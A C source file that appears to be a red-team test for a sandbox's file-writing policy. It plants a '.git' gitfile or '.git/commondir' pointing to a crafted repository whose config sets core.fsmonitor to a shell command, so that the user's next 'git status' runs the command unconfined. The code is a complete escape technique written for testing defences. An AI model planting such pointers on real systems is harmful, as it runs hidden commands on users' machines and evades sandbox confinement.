/* learn_gitfile.c: a program under a learned writing glob points a directory's git at a
 * repository of its own: a gitfile.
 *
 * generalize.RUNS_LATER keeps a learned writing glob out of the names git runs later -- a
 * repository's hooks, config and info/attributes -- but knows a repository by the name of
 * its directory, "*.git".  Git does not: a file named ".git" holding "gitdir: DIR" (what a
 * submodule's checkout or a linked worktree has) makes DIR, of any name, the repository of
 * the directory the file is in -- DIR's config and hooks are what git runs there, and git
 * looks for ".git" in the directory it runs in before the one above.  Under a learned
 * "$CWD/..." (a tree) the program makes REPO (a name no RUNS_LATER pattern knows) with a config
 * whose core.fsmonitor is a shell command, and GITFILE (sub/.git) pointing at it: the
 * user's next "git status" in sub runs the command, unconfined.
 *
 * The same by a repository's own file: ".git/commondir" names the directory git takes the
 * repository's config and hooks from (a linked worktree's git directory has one); planted in
 * an existing ".git", a name below no RUNS_LATER pattern, it moves them to REPO.
 *
 *   learn_gitfile REPO GITFILE COMMAND             writes GITFILE as "gitdir: REPO"
 *   learn_gitfile REPO COMMONDIR COMMAND commondir writes COMMONDIR as "REPO"
 * ESCAPED when the pointer was written, BLOCKED otherwise
 */
#include "attack.h"
#include <limits.h>

static void put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0)
        blocked("make %s: %s", path, ename(errno));
    size_t n = strlen(text);
    if (write(fd, text, n) != (ssize_t)n)
        blocked("write %s: %s", path, ename(errno));
    close(fd);
}

int main(int argc, char **argv) {
    if (argc != 4 && !(argc == 5 && strcmp(argv[4], "commondir") == 0))
        usage("learn_gitfile REPO GITFILE COMMAND [commondir]");
    char path[PATH_MAX], text[2 * PATH_MAX];
    if (mkdir(argv[1], 0755) < 0)
        blocked("mkdir %s: %s", argv[1], ename(errno));
    /* (its config first: a directory that holds HEAD, objects and refs is a git directory
     * whatever its name, whose config no learned glob writes -- red team 21) */
    snprintf(path, sizeof path, "%s/config", argv[1]);
    snprintf(text, sizeof text, "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"%s\"\n",
             argv[3]);
    put(path, text);
    const char *below[] = {"objects", "refs"};
    for (size_t i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "%s/%s", argv[1], below[i]);
        if (mkdir(path, 0755) < 0)
            blocked("mkdir %s: %s", path, ename(errno));
    }
    snprintf(path, sizeof path, "%s/HEAD", argv[1]);
    put(path, "ref: refs/heads/main\n");
    char real[PATH_MAX];
    if (!realpath(argv[1], real))
        blocked("realpath %s: %s", argv[1], ename(errno));
    snprintf(text, sizeof text, "%s%s\n", argc == 5 ? "" : "gitdir: ", real);
    put(argv[2], text);
    escaped("%s points git at %s, whose config names a command", argv[2], argv[1]);
}
